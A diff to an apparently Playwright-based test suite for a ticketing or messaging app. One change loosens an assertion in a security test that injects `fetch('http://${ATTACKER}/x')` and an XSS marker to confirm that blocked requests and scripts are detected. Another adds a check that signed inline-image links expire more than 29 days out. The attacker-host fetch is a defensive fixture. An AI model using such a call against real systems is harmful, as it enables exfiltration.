@@ -96,7 +96,7 @@ describe('threat:B1 fail:P14 the pack of attacks', () => {
     await free.goto('about:blank');
     await free.evaluate(`fetch('http://${ATTACKER}/x').catch(() => {}); window.__xss = 1`);
     await eventually(() => {
-      expect(seen.faults.map((fault) => fault.split(' ')[0]).sort()).toEqual(['left', 'request', 'script']);
+      expect(new Set(seen.faults.map((fault) => fault.split(' ')[0]))).toEqual(new Set(['left', 'request', 'script']));
     });
     await free.context().close();
   });
@@ -132,11 +132,14 @@ describe('fail:P15 inline images keep their place', () => {
     );
     expect(row?.html).toMatch(/<img data-attachment="[0-9a-f-]{36}" \/>/);
     expect(row?.html).not.toMatch(/signature|expires|http/);
+    const today = Date.now();
     await screen.later(30 * 86_400_000, async () => {
       const later = await screen.newPage();
       await later.goto(screen.ticketUrl(number));
       const frame = await messageFrame(later);
       await becomes(frame, `document.images[0].naturalWidth > 0`);
+      const expires = await frame.evaluate<string | null>(`new URL(document.images[0].src).searchParams.get('expires')`);
+      expect(Number(expires) * 1_000 - today).toBeGreaterThan(29 * 86_400_000);
       await later.context().close();
     });
   });
